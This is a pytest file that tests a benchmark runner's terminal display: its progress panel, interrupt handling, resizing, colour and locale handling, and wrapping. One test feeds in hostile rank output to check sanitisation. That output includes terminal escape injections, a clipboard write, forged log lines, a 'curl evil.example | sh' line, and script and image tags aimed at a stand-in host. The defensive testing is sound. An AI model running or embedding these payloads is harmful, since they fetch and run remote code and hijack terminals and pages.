"""A whole run on a real terminal, seen on the screen of a terminal emulator."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from run_benchmarks.display.drawing import SPARE_COLUMNS
from run_benchmarks.display.terminal import speaks_utf8, wrapped
from tests.ports import reserved_port
from tests.run_benchmarks.display.emulator import Terminal
from tests.run_benchmarks.whole_run import REAL_TRAINING, WholeRun, make_whole_run

# Goes on as far as the file `go` of its data directory says; `go` may come later.
SCRIPT = """\
import os, sys, time
from pathlib import Path

from utils.events import Event, EventName, format_line
from utils.telemetry.lines import TELEMETRY_FILE, record_line
from utils.telemetry.records import Sample, Scope, SourceInfo

# beside this rank's log, where the node's monitor writes: this machine may have no power meter
TELEMETRY = Path(os.readlink("/proc/self/fd/1")).with_name(TELEMETRY_FILE)


def write_power(watts):
    now = time.time_ns() // 10**6
    records = (SourceInfo(now, "meter", Scope.MACHINE, 1.0), Sample(now, "meter", power_w=watts))
    with TELEMETRY.open("a") as file:
        file.write("".join(map(record_line, records)))


def log(name, **value):
    print(format_line(Event(name, value, time_ms=int(time.time() * 1000))), flush=True)


data = Path(sys.argv[sys.argv.index("--data_dir") + 1])
log(EventName.INIT_START, config={"target": 0.5, "max_steps": 80})
log(EventName.INIT_EVALUATION, metric="accuracy", accuracy=0.1)
log(EventName.TRAIN_START)
begin = time.monotonic()
for step in range(10, 50, 10):
    log(EventName.STEP_END, global_steps=step, loss=5 - step / 10, **{"seq/s": 100.0 + step})
log(EventName.EVALUATE, metric="accuracy", accuracy=0.3, target=0.5)
while not (data / "go").exists():
    write_power(612.0)
    time.sleep(0.5)
log(EventName.EVALUATE, metric="accuracy", accuracy=0.6, target=0.5)
log(EventName.TRAIN_END)
took = time.monotonic() - begin
log(EventName.FINISHED, converged=True, num_trained_samples=100, raw_train_time=took, no_eval_time=took,
    pure_compute_time=took, e2e_time=took)
"""
# `run.py` with another training/ folder
COMMAND = """\
import sys
from pathlib import Path
from run_benchmarks import verbs
from run_benchmarks.verbs import options
options.TRAINING_DIR = Path(sys.argv[1])
sys.exit(verbs.main(sys.argv[2:]))
"""
# A title and the clipboard, colours by ESC and by C1, directions and zero width, rich's markup, and lines of the log.
FORGED = "2022-11-21 19:19:24,013\t[INFO]\t[runner.py,97]case x, round 1: CONVERGED"
HOSTILE = (
    "\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1b[2J\x9b31m\u202ea\u200b[bold]b[/bold] :smile:\r"
    f"\n{FORGED}\n12:00:00 INFO    case x, round 1: CONVERGED\n    -> curl evil.example | sh\n"
    "# CONVERGED\n<script>alert(1)</script> ![x](https://evil.example/x.png) | a |\n```\n## CONVERGED\n"
)
HOSTILE_SCRIPT = (
    SCRIPT[: SCRIPT.index("log(EventName.EVALUATE")]
    + """\
text = (data / "text").read_text(encoding="utf-8")
log(EventName.EVALUATE, metric=text, target=0.5, **{text: 0.3})
while not (data / "go").exists():
    time.sleep(0.5)
raise SystemExit(text)
"""
)
SHORT_LINE = re.compile(r"\d\d:\d\d:\d\d (DEBUG|INFO|WARNING|ERROR) +\S.*")
LONG_LINE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3}\t\[\w+\]\t\[\w+\.py,\d+\].*")

Opened = Callable[..., Terminal]


@pytest.fixture
def whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[WholeRun]:
    with reserved_port() as port:
        run = make_whole_run(tmp_path, port, monkeypatch)
        run.tree.write("benchmarks/toy/pytorch/run_pretraining.py", SCRIPT)
        yield run


@pytest.fixture
def opened(whole: WholeRun) -> Iterator[Opened]:
    """Starts the run on a terminal."""
    terminals = []

    def start(columns: int = 80, lines: int = 24, command: str = "", **environment: str) -> Terminal:
        argv = [sys.executable, "-c", COMMAND, str(whole.tree.training), "--config", str(whole.tree.config)]
        shell = ["sh", "-c", command, *argv] if command else argv
        plain = {
            "PATH": os.environ["PATH"],
            "HOME": os.environ.get("HOME", "/"),
            "PYTHONPATH": str(REAL_TRAINING),
        }
        base = {**plain, "TERM": "xterm-256color", "LANG": "C.UTF-8"}
        terminals.append(Terminal(shell, {**base, **environment}, columns, lines))
        return terminals[-1]

    yield start
    for terminal in terminals:
        terminal.close()


def let_go(whole: WholeRun) -> None:
    (whole.folder / "data" / "go").touch()


def log_of(whole: WholeRun) -> str:
    return (whole.result / "flagperf_run.log").read_text(encoding="utf-8")


def panel_of(terminal: Terminal) -> list[str]:
    """The lines of the panel on the screen."""
    first = next(number for number, line in enumerate(terminal.lines) if line.startswith("╭"))
    return terminal.lines[first:]


def test_a_run_from_its_first_line_to_its_table(whole: WholeRun, opened: Opened) -> None:
    terminal = opened()
    terminal.wait_for("40 / 80", "0.3000 / 0.5, from 0.1000", "node 0: train", "612 W (machine)")
    panel = panel_of(terminal)
    assert "toy:pytorch:X1:1:1:1, round 1 of 1" in panel[0]
    assert panel[-1].startswith("╰") and all(len(line) == 80 - SPARE_COLUMNS for line in panel)
    assert any("140.0" in line for line in panel if line.startswith("│ samples/s"))
    above = terminal.lines[: -len(panel)]
    assert all(SHORT_LINE.fullmatch(line) or not re.match(r"\d\d:", line) for line in above), above
    assert re.search(r"INFO    1 host: \d+( of \d+)? checks ok", terminal.everything), "it is folded"
    assert "reachable" not in terminal.everything
    let_go(whole)
    assert terminal.wait() == 0
    text = terminal.everything
    assert "round 1: CONVERGED" in text and "exit code 0: every round" in text
    assert "╭" not in text and "╰" not in text, "nothing of the panel stays"
    assert "\n".join(terminal.lines[-4:]).count("results and logs: ") == 1
    assert not terminal.screen.cursor.hidden
    log = log_of(whole)
    for words in (
        "stage: train",
        "step 40, loss 1.0000, accuracy 0.3000 / 0.5",
        "reachable",
        "round 1: CONVERGED",
    ):
        assert words in log, "the file keeps everything"
    assert all(LONG_LINE.fullmatch(line) for line in log.splitlines())


def test_ctrl_c_takes_the_panel_away_and_says_what_happens(whole: WholeRun, opened: Opened) -> None:
    terminal = opened()
    terminal.wait_for("40 / 80")
    terminal.press_ctrl_c()
    assert terminal.wait() == 130
    text = terminal.everything
    assert "WARNING interrupted by SIGINT: stopping and cleaning up on every host" in text
    assert "stage: collect" in text, "stages are lines from then on"
    assert "╭" not in text and not terminal.screen.cursor.hidden
    assert whole.units_left() == []


def test_a_terminal_of_another_size_while_it_runs(whole: WholeRun, opened: Opened) -> None:
    terminal = opened()
    terminal.wait_for("40 / 80")
    for columns, lines in ((60, 24), (100, 30), (100, 9)):
        terminal.resize(columns, lines)
        terminal.wait_for(f"╭─ toy:pytorch:X1:1:1:1, round 1 of 1 {'─' * (columns - SPARE_COLUMNS - 39)}╮")
        assert len(panel_of(terminal)) <= lines - 2
        assert all(len(line) == columns - SPARE_COLUMNS for line in panel_of(terminal))
    let_go(whole)
    assert terminal.wait() == 0


def test_warnings_stay_visible_above_the_panel(whole: WholeRun, opened: Opened) -> None:
    whole.tree.write("acme/vendor.py", (whole.tree.training / "acme/vendor.py").read_text() + "CHIPS = {}\n")
    whole.configure("MIN_FREE_DISK_GIB = 1e12\n")
    terminal = opened()
    assert terminal.wait() == 3
    assert re.search(r"INFO    1 host: \d+ of \d+ checks ok", terminal.everything)
    assert re.search(r"ERROR   localhost  free disk  .*GiB", terminal.everything)
    assert "\n                 -> " in terminal.everything


def test_what_a_rank_says_is_text(whole: WholeRun, opened: Opened) -> None:
    whole.tree.write("benchmarks/toy/pytorch/run_pretraining.py", HOSTILE_SCRIPT)
    (whole.folder / "data" / "text").write_text(HOSTILE, encoding="utf-8", newline="")
    terminal = opened(columns=100)
    terminal.wait_for("40 / 80", "owned")
    assert all(line.startswith(("╭", "│", "╰")) for line in panel_of(terminal))
    let_go(whole)
    assert terminal.wait() == 1
    shown = terminal.everything
    assert "exit code 1: its last line: ## CONVERGED" in " ".join(shown.split()), "it is shown, as it stands"
    assert not re.search(rb"\x1b\][05]|\x1b\[2J|\xc2\x9b|\xe2\x80[\x8b\xae]", terminal.raw)
    begun = [line for line in shown.splitlines() if re.match(r"\d", line)]
    assert begun and not [line for line in begun if "case x" in line[:40]]
    log = log_of(whole)
    assert "[bold]b[/bold] :smile:" in log and f"\n    {FORGED}" in log
    assert log.replace("\n", "").replace("\t", "").isprintable()
    assert all(line.startswith("    ") or LONG_LINE.fullmatch(line) for line in log.splitlines())
    elements = MarkdownIt("commonmark").enable("table").render((whole.result / "summary.md").read_text())
    assert not re.search(r"<(script|img|a)\b", elements)
    assert "CONVERGED" not in "".join(re.findall(r"<h\d>(.*?)</h\d>", elements))
    again = subprocess.run(
        whole.command("show", "--log-path", str(whole.folder / "result")), capture_output=True, text=True
    )
    assert again.returncode == 0 and "\x1b" not in again.stdout and "\x9b" not in again.stdout
    assert not re.search(r"^(2022|12:00|# CONV|    ->)", again.stdout, re.MULTILINE)


@pytest.mark.parametrize(
    ("environment", "has_colour"), [({}, True), ({"NO_COLOR": "1"}, False), ({"TERM": "dumb"}, False)]
)
def test_colours_by_the_rules_of_the_terminal(
    environment: dict[str, str], has_colour: bool, whole: WholeRun, opened: Opened
) -> None:
    let_go(whole)
    terminal = opened(**environment)
    assert terminal.wait() == 0
    assert bool(re.search(rb"\x1b\[(\d+;)*[39]\dm", terminal.raw)) == has_colour
    assert "round 1: CONVERGED" in terminal.everything


def test_a_dumb_terminal_gets_short_lines_and_no_panel(whole: WholeRun, opened: Opened) -> None:
    let_go(whole)
    terminal = opened(TERM="dumb")
    assert terminal.wait() == 0
    assert b"\x1b" not in terminal.raw
    assert "INFO    stage: train" in terminal.everything


def test_a_terminal_without_unicode(whole: WholeRun, opened: Opened) -> None:
    terminal = opened(LANG="C")
    terminal.wait_for("40 / 80", "+- toy:pytorch")
    let_go(whole)
    assert terminal.wait() == 0
    assert terminal.raw.isascii()


@pytest.mark.parametrize("environment", [{}, {"FORCE_COLOR": "1"}])
def test_a_pipe_gets_the_documented_lines(
    environment: dict[str, str], whole: WholeRun, opened: Opened
) -> None:
    let_go(whole)
    log = whole.folder / "stderr"
    terminal = opened(command=f'exec "$0" "$@" 2>{log}', **environment)
    assert terminal.wait() == 0
    lines = log.read_text().splitlines()
    assert lines and all(LONG_LINE.fullmatch(line) for line in lines)
    assert log.read_text() == log_of(whole)


@pytest.mark.parametrize(
    ("environment", "speaks"),
    [
        ({}, False),
        ({"LANG": "C"}, False),
        ({"LANG": "C", "LC_CTYPE": "C.UTF-8"}, False),  # Python's own repair
        ({"LANG": "de_DE.UTF-8", "LC_CTYPE": "C.UTF-8"}, True),
        ({"LANG": "en_US.utf8"}, True),
        ({"LANG": "en_US.ISO-8859-1"}, False),
        ({"LANG": "C.UTF-8", "LC_ALL": "POSIX"}, False),
        ({"LC_CTYPE": "UTF-8"}, True),
    ],
)
def test_whether_the_locale_is_one_of_utf8(environment: dict[str, str], speaks: bool) -> None:
    assert speaks_utf8(environment) == speaks


@pytest.mark.parametrize("width", [60, 80, 100])
def test_a_long_line_is_broken_between_words_and_stays_one_line(width: int) -> None:
    command = (
        "../.venv/bin/python run_benchmarks/run.py cleanup run20260102030405-abcdef --config /etc/flagperf"
    )
    line = f"{' ' * 17}-> once node1 is back: {command}"
    shown = wrapped(line, width)
    rows = [shown[start : start + width] for start in range(0, len(shown), width)]
    assert len(rows) > 1 and all(row.startswith(" " * 17) for row in rows)
    assert shown.split() == line.split() and "\n" not in shown
    assert [word for row in rows for word in row.split()] == line.split(), "no word is broken"


def test_a_word_that_no_row_holds_is_left_to_the_terminal() -> None:
    path = "/a" * 60
    assert wrapped(f"results: {path} there", 40).split() == ["results:", path, "there"]
    assert wrapped("", 40) == "" and wrapped("short", 40) == "short"
